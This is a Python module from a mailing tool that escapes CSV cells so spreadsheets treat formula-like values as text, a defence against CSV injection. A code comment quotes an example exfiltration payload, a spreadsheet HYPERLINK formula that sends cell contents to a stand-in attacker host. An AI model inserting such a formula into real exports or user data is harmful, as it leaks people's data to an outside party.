"""CSV as people open it, in a spreadsheet: the one writer every export uses (`subs export`, `log --csv`), and the
reader's side of its one transformation.

Pure: rows in, text out. A cell a spreadsheet would run as a formula is neutralised (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TextIO

from mailer.message import without_controls

# Excel, LibreOffice and Google Sheets evaluate a cell starting with any of these (OWASP's list); a sign-up name or
# an SMTP reply such as =HYPERLINK("http://evil.test/?d="&A2,"Click") would otherwise run when ops open the export.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"  # what the spreadsheets themselves use to say "this cell is text"


def spreadsheet_cell(value: object) -> object:
    """A value as written to CSV: text loses control characters and gets a leading ' when it would be a formula;
    numbers stay numbers and None is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return value
    text = without_controls(value)
    return _QUOTE + text if text.startswith(FORMULA_START) else text


def read_cell(text: str) -> str:
    """Undo spreadsheet_cell's quote, so a file mailer exported imports as the same addresses and names."""
    return text[1:] if text.startswith(_QUOTE) and text[1:].startswith(FORMULA_START) else text


class SpreadsheetWriter:
    """csv.writer with every cell passed through spreadsheet_cell."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream, lineterminator="\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])
